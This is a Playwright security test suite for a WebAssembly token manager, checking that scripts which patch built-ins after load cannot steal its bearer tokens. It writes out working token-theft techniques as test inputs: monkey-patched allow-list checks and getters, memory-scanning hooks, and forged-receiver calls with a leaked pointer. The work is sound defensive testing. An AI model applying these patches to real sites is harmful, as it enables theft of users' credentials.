// A same-origin script that runs *after* token-warden loaded and patches built-ins, or
// calls the wasm-bindgen glue directly, against the public package served by the
// reference server (/pkg/). Each kind of attack found in issue 13 is one test; then the
// systematic one: every function-valued property and accessor of the built-ins reachable
// from globalThis replaced by a recorder (e2e/support/builtins_recorder.js), after the
// manager is created and again after sign-in, while the page signs in, refreshes
// silently, fetches an allowed and a foreign origin, retries a 401 and logs out.
//
// The tokens are read off the network by the test (Playwright), never by the page; the
// foreign origin is a throwaway Node server that accepts any CORS request and records
// every header it receives.
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Page, Request } from '@playwright/test';
import { test, expect, type RunningServer } from './server';

const support = resolve(fileURLToPath(new URL('./support', import.meta.url)));
const PREFIX = '/attack-tests/';
const ALICE = { username: 'alice', password: 'wonderland-42' };
const CANARY = 'canary-5e4e3c1f-not-a-token';

/** Built-ins the issue names (or the token's path goes by): the walk must have patched them. */
const MUST_PATCH = [
  'Array.prototype.includes',
  'Array.prototype.Symbol(Symbol.iterator)',
  '%ArrayIteratorPrototype%.next',
  'URL.prototype.origin',
  'URL.prototype.href',
  '%TypedArray%.prototype.byteLength',
  '%TypedArray%.prototype.length',
  '%TypedArray%.prototype.subarray',
  '%TypedArray%.prototype.slice',
  '%TypedArray%.prototype.set',
  'Uint8Array.prototype.constructor',
  'globalThis.Uint8Array',
  'globalThis.Float64Array',
  'WebAssembly.Memory.prototype.buffer',
  'WebAssembly.Table.prototype.set',
  'WebAssembly.instantiate',
  'globalThis.fetch',
  'Headers.prototype.set',
  'Headers.prototype.get',
  'Headers.prototype.has',
  'HeadersIterator.next',
  'Request.prototype.headers',
  'Request.prototype.url',
  'Request.prototype.clone',
  'Response.prototype.text',
  'Response.prototype.status',
  'Response.prototype.headers',
  'Promise.prototype.then',
  'Promise.prototype.constructor',
  'Promise.resolve',
  'TextDecoder.prototype.decode',
  'TextEncoder.prototype.encodeInto',
  'TextEncoder.prototype.encode',
  'String.prototype.charCodeAt',
  'String.prototype.slice',
  'String.prototype.split',
  'JSON.parse',
  'JSON.stringify',
  'Reflect.apply',
  'Reflect.construct',
  'Function.prototype.call',
  'Function.prototype.apply',
  'Object.assign',
  'Object.defineProperty',
  'Object.prototype.__proto__',
  'AbortController.prototype.abort',
  'AbortController.prototype.signal',
  'LockManager.prototype.request',
  'Navigator.prototype.locks',
  'BroadcastChannel.prototype.postMessage',
  'EventTarget.prototype.addEventListener',
  'FinalizationRegistry.prototype.register',
  'WeakMap.prototype.get',
  'globalThis.setTimeout',
  'Math.random',
  'Date.now',
];

/**
 * What the walk reaches but no script can replace (non-configurable, by the ECMAScript or
 * Web IDL rules): reported, and expected to stay exactly this.
 */
const NON_CONFIGURABLE = [
  // [LegacyUnforgeable] in HTML: the runtime resolves relative URLs against
  // `location.href`, which no script can redefine.
  'globalThis.window',
  'globalThis.document',
  'globalThis.location',
  'globalThis.top',
  ...['ancestorOrigins', 'assign', 'hash', 'host', 'hostname', 'href', 'origin', 'pathname', 'port', 'protocol', 'reload', 'replace', 'search', 'toString', 'valueOf'].map(
    (key) => `location.${key}`,
  ),
  // ECMAScript: non-writable, non-configurable.
  'Function.prototype',
  'Function.prototype.Symbol(Symbol.hasInstance)',
];

/** The foreign origin: answers every request (CORS preflights included) and keeps its headers. */
interface Collector {
  origin: string;
  seen: IncomingHttpHeaders[];
  close(): void;
}

function collector(): Promise<Collector> {
  const seen: IncomingHttpHeaders[] = [];
  const server: Server = createServer((req, res) => {
    seen.push(req.headers);
    res.writeHead(req.method === 'OPTIONS' ? 204 : 200, {
      'Access-Control-Allow-Origin': req.headers.origin ?? '*',
      'Access-Control-Allow-Headers': req.headers['access-control-request-headers'] ?? '*',
      'Access-Control-Allow-Methods': 'GET, POST',
      'Content-Type': 'text/plain',
    });
    res.end(req.method === 'OPTIONS' ? undefined : 'collected');
  });
  return new Promise((done) =>
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address() as AddressInfo;
      done({ origin: `http://127.0.0.1:${port}`, seen, close: () => server.close() });
    }),
  );
}

/** Whether the collector was sent a bearer, or asked (in a preflight) whether it may be. */
const bearerAttempts = (seen: IncomingHttpHeaders[]) =>
  seen.filter((h) => h.authorization !== undefined || /authorization/i.test(String(h['access-control-request-headers'] ?? '')));

/** Every access token the server issued to this page, read from the network. */
function watchTokens(page: Page) {
  const reads: Promise<void>[] = [];
  const tokens: string[] = [];
  page.on('response', (response) => {
    const path = new URL(response.url()).pathname;
    if ((path === '/auth/login' || path === '/auth/refresh') && response.status() === 200) {
      reads.push(
        response.json().then(
          (body) => void tokens.push(body.access_token),
          () => {},
        ),
      );
    }
  });
  return {
    async all(): Promise<string[]> {
      await Promise.all(reads);
      return tokens;
    },
  };
}

/** Every request the page sent, with its headers. */
function watchRequests(page: Page) {
  const requests: Request[] = [];
  page.on('request', (r) => void requests.push(r));
  return {
    async all() {
      return Promise.all(requests.map(async (r) => ({ url: r.url(), headers: await r.allHeaders() })));
    },
  };
}

/**
 * A page on the app origin (the server's `/healthz`: a real network response, so Chromium
 * lets it reach the loopback collector) with the recorder module on `window.rec` (it
 * starts watching WebAssembly instances before the package loads) and the package on
 * `window.tw`.
 */
async function openAttackPage(page: Page, server: RunningServer) {
  await page.route(`${server.app}${PREFIX}**`, (route) => {
    const name = new URL(route.request().url()).pathname.slice(PREFIX.length);
    if (name === 'builtins_recorder.js') {
      return route.fulfill({ path: join(support, name), contentType: 'text/javascript; charset=utf-8' });
    }
    return route.fulfill({ status: 404, body: 'not found' });
  });
  await page.goto(`${server.app}/healthz`);
  await page.evaluate(async (prefix) => {
    const rec = await import(`${prefix}builtins_recorder.js`);
    rec.watchWasm();
    const tw = await import('/pkg/index.js' as string);
    await tw.loadTokenWarden();
    Object.assign(window, { rec, tw });
  }, PREFIX);
}

/** Creates `window.tm` (allowed: the page and the API origin) and signs alice in. */
async function signedInManager(page: Page, server: RunningServer, extra: Record<string, unknown> = {}) {
  await page.evaluate(
    async ({ api, alice, extra }) => {
      const { tw } = window as any;
      const tm = await tw.createTokenManager({
        refreshUrl: '/auth/refresh',
        logoutUrl: '/auth/logout',
        allowedOrigins: [location.origin, api],
        ...extra,
      });
      await tm.signIn('/auth/login', { headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(alice) });
      Object.assign(window, { tm });
    },
    { api: server.api, alice: ALICE, extra },
  );
}

/** JWT-shaped strings in every buffer an attacker got hold of (it does not know the token; it looks). */
const SCAN_FOR_JWTS = `(objects) => {
  const found = new Set();
  const latin1 = new TextDecoder('latin1');
  for (const o of objects) {
    let buffer = o;
    if (ArrayBuffer.isView(o)) buffer = o.buffer;
    else if (o instanceof WebAssembly.Memory) buffer = o.buffer;
    if (!(buffer instanceof ArrayBuffer) || buffer.byteLength === 0) continue;
    const text = latin1.decode(new Uint8Array(buffer));
    for (const m of text.matchAll(/eyJ[A-Za-z0-9_-]{8,}\\.[A-Za-z0-9_-]{8,}\\.[A-Za-z0-9_-]{8,}/g)) found.add(m[0]);
  }
  return [...found];
}`;

test.describe('each kind of attack found in issue 13', () => {
  let foreign: Collector;
  test.beforeEach(async () => {
    foreign = await collector();
  });
  test.afterEach(() => foreign.close());

  test('Array.prototype.includes patched after load does not widen the allow-list', async ({ page, server }) => {
    await openAttackPage(page, server);
    await signedInManager(page, server);
    const status = await page.evaluate(async (foreignOrigin) => {
      const tm = (window as any).tm;
      const inc = Array.prototype.includes;
      Array.prototype.includes = function (this: unknown[], x: unknown) {
        return x === foreignOrigin || Reflect.apply(inc, this, arguments);
      } as typeof inc;
      try {
        return (await tm.fetch(`${foreignOrigin}/r`)).status;
      } catch (e) {
        return String(e);
      } finally {
        Array.prototype.includes = inc;
      }
    }, foreign.origin);
    expect(foreign.seen.length, 'the request reached the foreign origin').toBeGreaterThan(0);
    expect(bearerAttempts(foreign.seen), 'no bearer, and no preflight asking for one').toEqual([]);
    expect(status).toBe(200);
  });

  test('a patched URL.prototype.origin getter does not widen the allow-list', async ({ page, server }) => {
    await openAttackPage(page, server);
    await signedInManager(page, server);
    const status = await page.evaluate(async (foreignOrigin) => {
      const tm = (window as any).tm;
      const original = Object.getOwnPropertyDescriptor(URL.prototype, 'origin')!;
      Object.defineProperty(URL.prototype, 'origin', {
        configurable: true,
        get() {
          const origin = original.get!.call(this);
          return origin === foreignOrigin ? location.origin : origin;
        },
      });
      try {
        return (await tm.fetch(`${foreignOrigin}/r`)).status;
      } catch (e) {
        return String(e);
      } finally {
        Object.defineProperty(URL.prototype, 'origin', original);
      }
    }, foreign.origin);
    expect(foreign.seen.length).toBeGreaterThan(0);
    expect(bearerAttempts(foreign.seen)).toEqual([]);
    expect(status).toBe(200);
  });

  for (const [title, owner, key] of [
    ['a patched %TypedArray%.prototype.byteLength getter is never handed the wasm memory', 'typedArray', 'byteLength'],
    ['a patched WebAssembly.Memory.prototype.buffer getter is never handed the wasm memory', 'memory', 'buffer'],
  ] as const) {
    test(title, async ({ page, server }) => {
      const tokens = watchTokens(page);
      await openAttackPage(page, server);
      await signedInManager(page, server);
      const o = await page.evaluate(
        async ({ owner, key, scan }) => {
          const tm = (window as any).tm;
          const proto = owner === 'memory' ? WebAssembly.Memory.prototype : Object.getPrototypeOf(Uint8Array.prototype);
          const original = Object.getOwnPropertyDescriptor(proto, key)!;
          const kept = new Set<object>();
          Object.defineProperty(proto, key, {
            configurable: true,
            get() {
              kept.add(this);
              return original.get!.call(this);
            },
          });
          let status = 0;
          try {
            // Everything that crosses into the core: a large input (the wasm memory grows,
            // so the glue needs a new view of it), state, getters, a request, a refresh.
            try {
              tm.acceptTokenResponse(' '.repeat(8 << 20));
            } catch {
              // Refused (not JSON): the session is untouched.
            }
            void tm.state;
            void tm.expiresAt;
            tm.claims();
            status = (await tm.fetch('/api/me')).status;
            await tm.refresh();
          } finally {
            Object.defineProperty(proto, key, original);
          }
          const memories = [...kept].filter((o) => o instanceof WebAssembly.Memory).length;
          return { status, memories, candidates: (0, eval)(scan)([...kept]) as string[] };
        },
        { owner, key, scan: SCAN_FOR_JWTS },
      );
      const issued = await tokens.all();
      expect(o.status).toBe(200);
      expect(issued.length).toBeGreaterThanOrEqual(2);
      expect(o.memories, 'no WebAssembly.Memory reached the getter').toBe(0);
      expect(o.candidates.filter((c) => issued.includes(c)), 'no issued token in anything the getter saw').toEqual([]);
    });
  }

  test('a patched JSON.stringify is not handed a token response the app accepts', async ({ page, server }) => {
    await openAttackPage(page, server);
    const o = await page.evaluate(async () => {
      const tm = await (window as any).tw.createTokenManager({ refreshUrl: '/auth/refresh' });
      const original = JSON.stringify;
      const seen: unknown[] = [];
      JSON.stringify = function (this: unknown, ...args: unknown[]) {
        const out = Reflect.apply(original, this, args);
        seen.push(out, ...args.map((a) => Reflect.apply(original, JSON, [a])));
        return out;
      } as typeof original;
      try {
        tm.acceptTokenResponse({ access_token: 'accepted-token-0123456789', token_type: 'Bearer', expires_in: 60 });
      } finally {
        JSON.stringify = original;
      }
      return { seen: seen.map(String), state: tm.state };
    });
    expect(o.state).toBe('signed-in');
    expect(o.seen.filter((s) => s.includes('accepted-token')), 'the replaced JSON.stringify saw no token').toEqual([]);
  });

  test('TokenManager.prototype.accessToken and fetch called with a forged receiver get nothing', async ({ browser, server }) => {
    // The receiver's pointer is the same on every load of a build: learn it on one page
    // (a hook installed before the package loads, which the threat model leaves open),
    // then attack a fresh page with no hook at all.
    const n = await calibrate(browser, server);
    const context = await browser.newContext();
    const page = await context.newPage();
    const tokens = watchTokens(page);
    await openAttackPage(page, server);
    await signedInManager(page, server);
    const o = await page.evaluate(async (n) => {
      // Issue 14: the glue's class is the TokenManager itself (SessionCore.prototype.lend
      // is gone); its token-bearing methods get the forged receiver instead.
      const { TokenManager } = await import('/pkg/token_warden.js' as string);
      let t: unknown;
      let threw = '';
      try {
        t = await TokenManager.prototype.accessToken.call({ __wbg_ptr: n });
      } catch (e) {
        threw = String(e);
      }
      try {
        const headers = new Headers();
        await TokenManager.prototype.fetch.call({ __wbg_ptr: n }, new Request('/api/me', { headers }));
        t = `${t ?? ''} ${[...headers].join(' ')}`;
      } catch (e) {
        threw += String(e);
      }
      const tm = (window as any).tm;
      return { t: t === undefined ? null : String(t), threw, state: tm.state, status: (await tm.fetch('/api/me')).status };
    }, n);
    const issued = await tokens.all();
    await context.close();
    expect(issued.length).toBeGreaterThan(0);
    expect(o.t === null || !issued.some((token) => o.t!.includes(token)), 'the forged call was handed the token').toBe(true);
    expect(o.threw, 'a receiver the glue did not construct throws').toContain('not a live TokenManager');
    expect(o.state).toBe('signed-in');
    expect(o.status).toBe(200);
  });

  test('a script that runs between the import and createTokenManager gets no instance and cannot initialise the glue with a module of its own', async ({ page, server }) => {
    const tokens = watchTokens(page);
    await page.goto(`${server.app}/healthz`);
    const o = await page.evaluate(async (alice) => {
      // The package is imported (that is when it captures), but no manager exists yet.
      const tw = await import('/pkg/index.js' as string);
      const got: string[] = [];
      const WA = WebAssembly as any;
      for (const name of ['instantiate', 'instantiateStreaming']) {
        const original = WA[name];
        WA[name] = async (...args: unknown[]) => {
          const result = await original(...args);
          got.push(name);
          return result;
        };
      }
      const Instance = WA.Instance;
      WA.Instance = function (...args: unknown[]) {
        got.push('Instance');
        return new Instance(...args);
      };
      // The positive control: the patch sees an instantiation the page makes itself.
      const empty = new Uint8Array([0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00]);
      await WA.instantiate(empty);
      const control = got.splice(0).join();
      // The glue by URL: its init functions went to the package entry at import.
      const glue = await import('/pkg/token_warden.js' as string);
      const init = [typeof glue.default, typeof glue.initSync, typeof glue.twClaimInit(), typeof glue.twClaimInit()];
      const tm = await tw.createTokenManager({ refreshUrl: '/auth/refresh', logoutUrl: '/auth/logout' });
      const state = await tm.signIn('/auth/login', { headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(alice) });
      const status = (await tm.fetch('/api/me')).status;
      await tm.logout();
      return { control, init, got, state, status };
    }, ALICE);
    expect(o.control, 'the patch works').toBe('instantiate');
    expect(o.init, 'no init function reachable from the glue').toEqual(['undefined', 'undefined', 'undefined', 'undefined']);
    expect(o.got, 'the package instantiated through what it captured at import').toEqual([]);
    expect(o.state).toBe('signed-in');
    expect(o.status).toBe(200);
    expect((await tokens.all()).length).toBeGreaterThan(0);
  });

  test('every export of the glue, called with forged receivers and any arguments, hands out no token; its classes cannot be patched', async ({ browser, server }) => {
    const n = await calibrate(browser, server);
    const context = await browser.newContext();
    const page = await context.newPage();
    const tokens = watchTokens(page);
    const requests = watchRequests(page);
    await openAttackPage(page, server);
    await signedInManager(page, server);
    const o = await page.evaluate(async (n) => {
      const glue = await import('/pkg/token_warden.js' as string);
      const handed: unknown[] = [];
      const sink = (...args: unknown[]) => void handed.push(...args);
      const headers = new Headers();
      const request = new Request('/api/me');
      const requestHeaders = Object.getOwnPropertyDescriptor(Request.prototype, 'headers')!.get!.call(request) as Headers;
      const now = Date.now();
      const argumentSets: unknown[][] = [
        [sink, undefined, now, 0, false, false],
        [sink, headers, now, 0, true, true],
        [headers, `${location.origin}/api/me`, now, 0, true, true],
        [requestHeaders, request.url, now, 0, true, true],
        [headers, sink, now, 0, true, true],
        [sink, sink, sink, sink, sink, sink, sink, sink],
        [now, 0, sink, headers, true, true],
        [],
      ];
      const proto = (c: any) => (typeof c === 'function' && c.prototype ? Object.getOwnPropertyNames(c.prototype) : []);
      const classes = Object.entries(glue).filter(([, v]) => proto(v).length > 1) as [string, any][];
      const receivers = (cls: any) => [
        { __wbg_ptr: n },
        Object.create(cls.prototype, { __wbg_ptr: { value: n } }),
        new Proxy({}, { get: (_, k) => (k === '__wbg_ptr' ? n : undefined) }),
      ];
      const calls: string[] = [];
      const errors: string[] = [];
      const attempt = async (label: string, f: () => unknown) => {
        calls.push(label);
        try {
          const r = await f();
          handed.push(r);
        } catch (e) {
          errors.push(`${label}: ${e}`);
        }
      };
      for (const [name, cls] of classes) {
        for (const method of proto(cls)) {
          if (method === 'constructor') continue;
          const fn = cls.prototype[method];
          if (typeof fn !== 'function') continue;
          for (const receiver of receivers(cls)) {
            for (const args of argumentSets) await attempt(`${name}.prototype.${method}`, () => Reflect.apply(fn, receiver, args));
          }
        }
      }
      for (const [name, value] of Object.entries(glue)) {
        if (typeof value !== 'function' || proto(value).length > 1) continue;
        for (const args of argumentSets) await attempt(name, () => Reflect.apply(value as any, undefined, args));
      }
      // Replace every method of every exported class: a runtime that looks them up at
      // call time would hand the genuine receiver (and its arguments) to the script.
      const stolen: unknown[] = [];
      for (const [, cls] of classes) {
        for (const method of proto(cls)) {
          if (method === 'constructor') continue;
          const spy = function (this: unknown, ...args: unknown[]) {
            stolen.push(this, ...args);
          };
          try {
            cls.prototype[method] = spy;
          } catch {}
          try {
            Object.defineProperty(cls.prototype, method, { value: spy });
          } catch {}
        }
      }
      const tm = (window as any).tm;
      const status = (await tm.fetch('/api/me')).status;
      const state = tm.state;
      const texts = [...handed, ...stolen].map((v) => {
        if (v instanceof Headers) return [...v].join(' ');
        if (typeof v === 'function') return 'function';
        try {
          return typeof v === 'object' && v !== null ? JSON.stringify(v) ?? '' : String(v);
        } catch {
          return String(v);
        }
      });
      texts.push([...headers].join(' '), [...requestHeaders].join(' '));
      return { calls: calls.length, errors: errors.length, texts, stolen: stolen.length, status, state };
    }, n);
    const issued = await tokens.all();
    const sent = await requests.all();
    await context.close();
    expect(o.calls).toBeGreaterThan(100);
    expect(issued.length).toBeGreaterThan(0);
    const leaks = o.texts.filter((t) => issued.some((token) => t.includes(token)));
    expect(leaks, 'nothing a forged call returned or passed on holds the token').toEqual([]);
    expect(o.stolen, 'no replaced method of the glue was ever called').toBe(0);
    // The genuine manager is untouched: still signed in, still sending its token.
    expect(o.state).toBe('signed-in');
    expect(o.status).toBe(200);
    const last = sent.filter((r) => r.url.endsWith('/api/me')).at(-1);
    expect(issued.some((token) => last?.headers.authorization === `Bearer ${token}`)).toBe(true);
  });
});

/**
 * The pointer of the manager's core on this build: a page whose FinalizationRegistry is
 * hooked before the package loads creates a manager exactly as the attacked pages do and
 * reports what the glue registered (a number: the pointer) for it.
 */
async function calibrate(browser: import('@playwright/test').Browser, server: RunningServer): Promise<number> {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.addInitScript(() => {
    const register = FinalizationRegistry.prototype.register;
    const held: unknown[] = [];
    (window as any).held = held;
    FinalizationRegistry.prototype.register = function (this: FinalizationRegistry<unknown>, target: object, value: unknown, token?: object) {
      held.push(value);
      return Reflect.apply(register, this, [target, value, token]);
    } as typeof register;
  });
  await openAttackPage(page, server);
  const before = await page.evaluate(() => (window as any).held.length);
  await signedInManager(page, server);
  const held = await page.evaluate(() => (window as any).held as unknown[]);
  await context.close();
  const registered = held.slice(before).filter((v): v is number => typeof v === 'number');
  expect(registered.length, 'the glue registered the core it created').toBeGreaterThan(0);
  return registered[0];
}

/**
 * Drives the manager while everything is patched, then scans. `patchAfter` is when the
 * patching starts: right after the manager is created, or after it signed in.
 */
async function systematic(page: Page, server: RunningServer, patchAfter: 'creation' | 'sign-in') {
  const foreign = await collector();
  const tokens = watchTokens(page);
  const requests = watchRequests(page);
  // A 401 for the first request to this URL, as for a token the server revoked.
  const retryUrl = `${server.app}/api/me?401-once`;
  let retrySeen = 0;
  await page.route(retryUrl, (route) => {
    retrySeen += 1;
    if (retrySeen === 1) {
      return route.fulfill({ status: 401, headers: { 'WWW-Authenticate': 'Bearer error="invalid_token"' }, body: '' });
    }
    return route.continue();
  });
  try {
    await openAttackPage(page, server);
    const o = await page.evaluate(
      async ({ api, foreignOrigin, alice, patchAfter, canary, canaryBytes }) => {
        const { rec, tw } = window as any;
        const glue = await import('/pkg/token_warden.js' as string);
        const classes = Object.entries(glue)
          .filter(([, v]) => typeof v === 'function' && (v as any).prototype && Object.getOwnPropertyNames((v as any).prototype).length > 1)
          .map(([k, v]) => [(v as any).prototype, k]);
        const tm = await tw.createTokenManager({
          refreshUrl: '/auth/refresh',
          logoutUrl: '/auth/logout',
          allowedOrigins: [location.origin, api],
          refreshLeadSeconds: 1,
        });
        const signIn = () =>
          tm.signIn('/auth/login', { headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(alice) });
        if (patchAfter === 'sign-in') await signIn();
        const patch = rec.patchAll({ classes });
        const out: Record<string, unknown> = {};
        try {
          // The positive control: a secret the page does hand to built-ins, which the
          // scan must find, so an empty result means something.
          new Headers().set('x-canary', canary);
          new TextEncoder().encode(canary.slice(0));
          // Reached only through a Response body and a promise's value (distinct strings,
          // so the label of the first built-in to see each is the one that counts).
          await new Response(new Uint8Array(canaryBytes)).text();
          await new Promise((resolve) => resolve(`${canary}-promise`));
          if (patchAfter === 'creation') out.signIn = await signIn();
          out.me = (await tm.fetch('/api/me')).status;
          // A body: cloned before the token goes in, for the retry.
          out.post = (await tm.fetch('/api/me', { method: 'POST', body: 'not a token' })).status;
          out.api = (await tm.fetch(`${api}/api/me`)).status;
          out.foreign = (await tm.fetch(`${foreignOrigin}/r`)).status;
          out.retry = (await tm.fetch('/api/me?401-once')).status;
          out.silentRefresh = await new Promise((resolve) => {
            const timer = setTimeout(() => {
              off();
              resolve(false);
            }, 20_000);
            const off = tm.on('refreshed', () => {
              clearTimeout(timer);
              off();
              resolve(true);
            });
          });
          out.afterRefresh = (await tm.fetch('/api/me')).status;
          await tm.logout();
          out.state = tm.state;
        } catch (e) {
          out.error = String(e);
        } finally {
          patch.restore();
        }
        return { out, patched: patch.patched, names: patch.names, objects: patch.objects, skipped: patch.skipped, stats: rec.stats() };
      },
      {
        api: server.api,
        foreignOrigin: foreign.origin,
        alice: ALICE,
        patchAfter,
        canary: CANARY,
        canaryBytes: [...Buffer.from(`${CANARY}-response`)],
      },
    );
    const issued = await tokens.all();
    const scan = (secrets: string[]) => page.evaluate((secrets) => (window as any).rec.scan(secrets), secrets);
    const controls: { kind: string }[] = await scan([CANARY]);
    const findings = await scan(issued);
    const sent = await requests.all();
    const report = {
      patched: o.patched,
      objects: o.objects,
      skipped: o.skipped.length,
      nonConfigurable: o.skipped.filter((s: { why: string }) => s.why === 'non-configurable').map((s: { name: string }) => s.name),
      excluded: o.skipped.filter((s: { why: string }) => s.why !== 'non-configurable'),
      stats: o.stats,
    };
    test.info().annotations.push({ type: `patched after ${patchAfter}`, description: JSON.stringify(report) });
    // The drive itself worked, under the patches.
    expect(o.out.error, 'the page survived the patching').toBeUndefined();
    expect(o.out).toMatchObject({ me: 200, post: 405, api: 200, foreign: 200, retry: 200, silentRefresh: true, afterRefresh: 200, state: 'signed-out' });
    if (patchAfter === 'creation') expect(o.out.signIn).toBe('signed-in');
    expect(retrySeen, 'the 401 was retried once').toBe(2);
    expect(o.stats.memories, 'the harness knows the wasm memory').toBeGreaterThan(0);
    expect(o.stats.overflow).toBe(false);
    expect(o.patched, 'thousands of built-ins were patched').toBeGreaterThan(5000);
    expect(MUST_PATCH.filter((name) => !o.names.includes(name)), 'among them every one the issue names').toEqual([]);
    expect(report.nonConfigurable.sort(), 'the only ones left: no script can replace them').toEqual([...NON_CONFIGURABLE].sort());
    expect(report.excluded, 'none had to be left out to keep the page alive').toEqual([]);
    expect(o.stats.observations, 'the recorders saw the drive').toBeGreaterThan(500);
    const kinds = controls.map((f) => f.kind);
    for (const kind of ['a string with the token', 'a Headers carrying the token', 'a buffer holding the token']) {
      expect(kinds, 'the scan finds a secret the page did hand to built-ins').toContain(kind);
    }
    const labels = controls.map((f: { label: string }) => f.label).join('\n');
    expect(labels, 'a Response body is read through a clone').toContain('(its body, cloned)');
    expect(labels, 'a promise is followed to its value').toContain('(the value it settled with)');
    expect(issued.length, 'sign-in, the 401 refresh and the silent refresh each issued a token').toBeGreaterThanOrEqual(3);
    // What the recorders saw.
    expect(findings, 'no recorded value carries a token or the wasm memory').toEqual([]);
    // What went over the network: the bearer went to the allowed origins, and only there.
    const allowed = [server.app, server.api];
    const withBearer = sent.filter((r) => r.headers.authorization !== undefined);
    expect(withBearer.filter((r) => !allowed.includes(new URL(r.url).origin)), 'no bearer to a non-allowed origin').toEqual([]);
    expect(withBearer.some((r) => r.url === `${server.api}/api/me`), 'the allowed API origin got the bearer').toBe(true);
    expect(foreign.seen.length).toBeGreaterThan(0);
    expect(bearerAttempts(foreign.seen)).toEqual([]);
  } finally {
    foreign.close();
  }
}

test.describe('every built-in patched after load', () => {
  // 4 s tokens and a 1 s lead: a silent refresh about 3 s after each grant.
  test.use({ serverArgs: ['--access-ttl', '4'] });
  test.setTimeout(120_000);

  test('patched once the manager is created: sign-in, silent refresh, fetches, a 401 retry and logout leak nothing', async ({ page, server }) => {
    await systematic(page, server, 'creation');
  });

  test('patched once signed in: silent refresh, fetches, a 401 retry and logout leak nothing', async ({ page, server }) => {
    await systematic(page, server, 'sign-in');
  });
});
